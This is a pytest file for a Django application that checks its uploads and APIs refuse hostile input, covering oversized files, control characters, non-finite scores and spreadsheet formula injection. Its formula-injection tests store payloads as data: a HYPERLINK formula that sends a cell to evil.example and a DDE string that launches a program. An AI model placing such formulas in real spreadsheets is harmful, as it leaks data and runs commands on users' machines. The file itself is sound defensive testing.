"""Hostile input through the pages and the API: the generated corpus (tests/support/hostile.py)
uploaded to every upload page, scores typed to inject rows, control characters pasted into plans
and progress, formulas stored in text that goes back out as XLSX.

Every answer is 200/302/400/404/413 (never 500), small (no echo of huge values), the worker's
heap stays under MEMORY_MB while it refuses a hostile upload, and nothing is written for refused
input.
"""

from __future__ import annotations

import io
import json

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rest_framework.test import APIClient

from tests.support import hostile
from tests.support.docx_text import docx_text
from tests.test_input_properties import JSONISH, TEXT
from tests.web.test_plan_editor import page_form

pytestmark = pytest.mark.django_db

CORPUS = hostile.corpus()
XLSX = sorted(n for n in CORPUS if n.endswith(".xlsx"))
ANSWERS = {200, 400, 413}
BAD = "ก\x0bข\x01ค\x1bง\uffffจ\x7fฉ\x85ช"     # Word's line break, SOH, ESC, a noncharacter, DEL, C1


@pytest.fixture
def editor(world, login):
    return login(world["users"]["editor"])


def written() -> tuple:
    """Everything an upload could write."""
    from itadesk.web.agencies.models import AuditEntry
    from itadesk.web.oit.models import EvidenceEntry
    from itadesk.web.progress.models import MeasureReport
    from itadesk.web.results.models import ResultSet

    return (list(ResultSet.objects.order_by("pk").values("pk", "fiscal_year", "scores", "updated_at")),
            list(EvidenceEntry.objects.order_by("pk").values()), list(MeasureReport.objects.order_by("pk").values()),
            AuditEntry.objects.count())


MEMORY_MB = 150   # what one refused upload may allocate in the worker, peak (the old code took gigabytes)


def post_bounded(client, url, data, name):
    """``client.post`` with the Python heap traced: a hostile file must be refused without the
    worker allocating more than MEMORY_MB at any moment."""
    import tracemalloc

    tracemalloc.start()
    try:
        response = client.post(url, data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < MEMORY_MB * 1024 * 1024, (name, f"{peak / 1024 / 1024:.0f} MB")
    return response


def assert_refused_small(name, response, before):
    assert response.status_code in ANSWERS, (name, response.status_code)
    assert len(response.content) < 40_000, (name, len(response.content))
    body = response.content.decode()
    for long in ("x" * 100, "y" * 100, "9" * 100, "Traceback"):
        assert long not in body, name
    assert written() == before, name


def test_results_upload_refuses_every_hostile_file(world, editor):
    for name in sorted(set(CORPUS) - {"bare-cr.csv", "control.csv"}):
        before = written()
        response = post_bounded(editor, f"/agencies/{world['a'].pk}/results/upload/",
                                {"file": SimpleUploadedFile(name, CORPUS[name]), "fiscal_year": ""}, name)
        assert_refused_small(name, response, before)
        assert response.status_code == 400, name


@pytest.mark.parametrize("name", ["bare-cr.csv", "control.csv"])
def test_results_upload_reads_bare_cr_and_pasted_controls_as_meant(world, editor, name):
    response = editor.post(f"/agencies/{world['a'].pk}/results/upload/",
                           {"file": SimpleUploadedFile(name, CORPUS[name]), "fiscal_year": ""})
    assert response.status_code == 302
    assert world["a"].result_sets.get(fiscal_year=2567).scores == {"ITA": 72.97, "IIT": 80.0}


def test_oit_evidence_import_refuses_every_hostile_workbook(world, editor):
    for name in XLSX:
        before = written()
        response = post_bounded(editor, f"/agencies/{world['a'].pk}/oit/2568/evidence/import/",
                                {"file": SimpleUploadedFile(name, CORPUS[name])}, name)
        assert_refused_small(name, response, before)


def test_progress_sheet_import_refuses_every_hostile_workbook(world, login, approved_plan):
    from itadesk.web.progress.services import ensure_rounds

    ensure_rounds(approved_plan)
    client = login(world["users"]["editor"])
    for name in XLSX:
        before = written()
        response = post_bounded(client, f"/agencies/{world['a'].pk}/plans/2568/progress/sheet/import/",
                                {"file": SimpleUploadedFile(name, CORPUS[name])}, name)
        assert_refused_small(name, response, before)


# --------------------------------------------------------------------------- scores as data

def test_a_newline_typed_into_the_results_form_is_not_a_second_row(world, editor):
    before = written()
    fields = {"ITA": "50\nIIT,99", "IIT": "", "EIT": "80"}
    response = editor.post(f"/agencies/{world['a'].pk}/results/2567/edit/", fields)
    assert response.status_code == 400
    assert "คะแนนของ ITA ต้องเป็นตัวเลข" in response.content.decode()
    assert written() == before
    assert world["a"].result_sets.get(fiscal_year=2567).scores.get("IIT") != 99


@pytest.mark.parametrize("query", ["abc", "9" * 300, "1e300", "25.67", "99999"])
def test_a_bad_year_in_the_query_string_is_a_message_not_a_500(world, editor, query):
    response = editor.get(f"/agencies/{world['a'].pk}/results/new/?year={query}")
    assert response.status_code == 302
    assert editor.get(response["Location"]).status_code == 200


@pytest.mark.parametrize("path", ["results/{y}/", "results/{y}/edit/", "plans/{y}/", "oit/{y}/evidence/"])
def test_a_300_digit_year_in_a_url_is_not_found(world, editor, path):
    assert editor.get(f"/agencies/{world['a'].pk}/" + path.format(y="9" * 300)).status_code == 404


def test_upload_with_a_bad_fiscal_year_field(world, editor):
    before = written()
    for year in ("abc", "9" * 300, "1e300"):
        response = editor.post(f"/agencies/{world['a'].pk}/results/upload/",
                               {"file": SimpleUploadedFile("r.csv", b"ITA,50\n"), "fiscal_year": year})
        assert response.status_code == 400 and "2500–2700" in response.content.decode()
    assert written() == before


def _message(response) -> str:
    """The Thai message of a refused API body: the checks' problems, or the JSON reader's detail
    (a body it cannot safely read never reaches the checks)."""
    body = response.json()
    text = " ".join(map(str, body.get("problems") or [])) or str(body.get("detail") or "")
    assert any("\u0e00" <= ch <= "\u0e7f" for ch in text), body
    return text


@pytest.fixture
def api(world):
    client = APIClient()
    client.force_authenticate(world["users"]["editor"])
    return client


@pytest.mark.parametrize("score", ["inf", "nan", "-inf", "1e309", "50\nIIT,99", "Infinity", 10 ** 400])
def test_the_results_api_refuses_non_finite_scores(world, api, score):
    before = written()
    response = api.put(f"/api/agencies/{world['a'].pk}/results/2567/", {"scores": {"ITA": score}}, format="json")
    assert response.status_code == 400 and _message(response)
    assert written() == before


@pytest.mark.parametrize("body", ['{"scores": {"\\ud800": 1}}', '{"scores": {"ITA": "\\udfff"}}',
                                  '{"scores": {"ITA\\u0000\\u001b": 1}}'])
def test_the_results_api_answers_surrogates_and_controls_with_a_readable_400(world, api, body):
    before = written()
    response = api.put(f"/api/agencies/{world['a'].pk}/results/2567/", body, content_type="application/json")
    assert response.status_code == 400 and _message(response)
    assert written() == before


def test_the_results_api_refuses_an_implausible_year(world, api):
    before = written()
    for year in (10 ** 300, 0, 9999):
        response = api.post(f"/api/agencies/{world['a'].pk}/results/", {"fiscal_year": year, "scores": {"ITA": 50}},
                            format="json")
        assert response.status_code == 400, response.content
    assert written() == before


# --------------------------------------------------------------------------- control characters

def test_pasted_control_characters_are_cleaned_and_the_documents_render(world, login):
    from itadesk.web.plans.models import Plan

    client = login(world["users"]["editor"])
    assert client.post(f"/agencies/{world['a'].pk}/plans/generate/2567/").status_code == 302
    plan = Plan.objects.get(agency=world["a"], plan_year=2568)
    base = f"/agencies/{world['a'].pk}/plans/2568/"
    fields = page_form(client.get(base + "edit/"))
    fields.update({"form-0-name": "มาตรการ" + BAD, "form-0-steps": "ขั้นตอนแรก" + BAD + "\nขั้นตอนสอง",
                   "form-0-responsible": "สำนักปลัด\x0bกองคลัง"})
    assert client.post(base + "edit/", fields).status_code == 302
    first = plan.measures.order_by("theme", "order", "pk").first()
    assert first.name == "มาตรการก\nขคงจฉ\nช" and first.responsible == "สำนักปลัด\nกองคลัง"
    for fmt in ("docx", "pdf"):
        response = client.get(base + f"documents/{fmt}/")
        assert response.status_code == 200 and len(response.content) > 10_000


def test_emoji_in_a_plan_are_refused_with_a_clear_message(world, login):
    from itadesk.web.plans.models import Plan

    client = login(world["users"]["editor"])
    client.post(f"/agencies/{world['a'].pk}/plans/generate/2567/")
    plan = Plan.objects.get(agency=world["a"], plan_year=2568)
    names = list(plan.measures.values_list("name", flat=True))
    base = f"/agencies/{world['a'].pk}/plans/2568/"
    fields = page_form(client.get(base + "edit/"))
    fields["form-0-name"] = "มาตรการ 😀 ใหม่"
    response = client.post(base + "edit/", fields)
    assert response.status_code == 400
    assert "อักขระที่พิมพ์ในเอกสาร PDF ไม่ได้: 😀" in response.content.decode()
    assert list(plan.measures.values_list("name", flat=True)) == names


def test_documents_render_from_text_stored_with_control_characters(world, login, approved_plan):
    """Text stored before the forms cleaned it (or written by other means) never breaks a document."""
    from itadesk.web.progress.models import MeasureReport
    from itadesk.web.progress.services import ensure_rounds

    ensure_rounds(approved_plan)
    measure = approved_plan.measures.order_by("theme", "order", "pk").first()
    type(measure).objects.filter(pk=measure.pk).update(
        name="มาตรการ" + BAD + " 😀 " + "x" * 300, steps=["ขั้นตอน" + BAD], responsible=BAD)
    MeasureReport.objects.create(round=approved_plan.rounds.get(months=6), measure=measure, status="done",
                                 done="ผล" + BAD, problems=BAD, links=["https://www.example.go.th/" + "a" * 300])
    client = login(world["users"]["viewer"])
    base = f"/agencies/{world['a'].pk}/plans/2568/"
    for path in ("documents/docx/", "documents/pdf/", "progress/6/results-report/docx/", "progress/6/results-report/pdf/"):
        response = client.get(base + path)
        assert response.status_code == 200, path
        if path.endswith("docx/"):
            text = docx_text(response.content)
            assert "ผลก" in text or "มาตรการก" in text
            assert not any(ch in text for ch in "\x0b\x01\x1b\uffff\x7f")


def test_the_progress_api_cleans_control_characters(world, approved_plan):
    from itadesk.web.progress.models import MeasureReport
    from itadesk.web.progress.services import ensure_rounds

    ensure_rounds(approved_plan)
    measure = approved_plan.measures.first()
    client = APIClient()
    client.force_authenticate(world["users"]["editor"])
    url = f"/api/agencies/{world['a'].pk}/plans/2568/progress/6/measures/{measure.pk}/"
    response = client.put(url, {"status": "in_progress", "done": "ทำ" + BAD}, format="json")
    assert response.status_code in (200, 201), response.content
    assert MeasureReport.objects.get(measure=measure).done == "ทำก\nขคงจฉ\nช"
    refused = client.put(url, {"status": "in_progress", "done": "🔥"}, format="json")
    assert refused.status_code == 400 and "อักขระที่พิมพ์ในเอกสาร PDF ไม่ได้: 🔥" in str(refused.json())


# --------------------------------------------------------------------------- formula injection

def _no_formula(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))   # not read-only: formulas show as data_type "f"
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    return cells


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_the_oit_template_keeps_a_formula_like_note_as_text(world, editor):
    from itadesk.web.oit.models import EvidenceEntry

    EvidenceEntry.objects.create(agency=world["a"], fiscal_year=2568, code="O1",
                                 urls=["https://www.bansuanhom.go.th/o1"], note=HYPERLINK)
    response = editor.get(f"/agencies/{world['a'].pk}/oit/2568/evidence/template/")
    assert response.status_code == 200
    note = [c for c in _no_formula(response.content) if c.value == HYPERLINK]
    assert len(note) == 1 and note[0].quotePrefix


def test_the_progress_sheet_keeps_an_agency_name_and_reports_starting_with_equals_as_text(world, login,
                                                                                          approved_plan):
    from itadesk.web.progress.models import MeasureReport
    from itadesk.web.progress.services import ensure_rounds

    ensure_rounds(approved_plan)
    type(world["a"]).objects.filter(pk=world["a"].pk).update(name="=cmd|' /C calc'!A0")
    measure = approved_plan.measures.first()
    MeasureReport.objects.create(round=approved_plan.rounds.get(months=6), measure=measure, status="done",
                                 done="+1+1", output="-ลดลง", outcome="@SUM(A1)", problems="\tx")
    response = login(world["users"]["viewer"]).get(f"/agencies/{world['a'].pk}/plans/2568/progress/sheet/")
    assert response.status_code == 200
    values = {c.value for c in _no_formula(response.content)}
    assert {"=cmd|' /C calc'!A0", "+1+1", "-ลดลง", "@SUM(A1)", "\tx"} <= values


# --------------------------------------------------------------------------- properties through the API

API_EXAMPLES = settings(max_examples=25, deadline=None, derandomize=True,
                        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


@API_EXAMPLES
@given(scores=st.dictionaries(TEXT, JSONISH, max_size=6) | JSONISH)
def test_any_json_scores_through_the_results_api(world, api, scores):
    body = json.dumps({"scores": scores}, allow_nan=True)
    response = api.put(f"/api/agencies/{world['a'].pk}/results/2567/", body, content_type="application/json")
    assert response.status_code in (200, 201, 400), response.content[:300]
    response.content.decode("utf-8")


@API_EXAMPLES
@given(text=st.text(st.characters(codec=None, exclude_categories=()), max_size=80))
def test_any_text_through_the_progress_api(world, approved_plan, text):
    from itadesk.web.progress.services import ensure_rounds

    ensure_rounds(approved_plan)
    measure = approved_plan.measures.first()
    client = APIClient()
    client.force_authenticate(world["users"]["editor"])
    body = json.dumps({"status": "in_progress", "done": text, "problems": text})
    url = f"/api/agencies/{world['a'].pk}/plans/2568/progress/6/measures/{measure.pk}/"
    response = client.put(url, body, content_type="application/json")
    assert response.status_code in (200, 201, 400), response.content[:300]
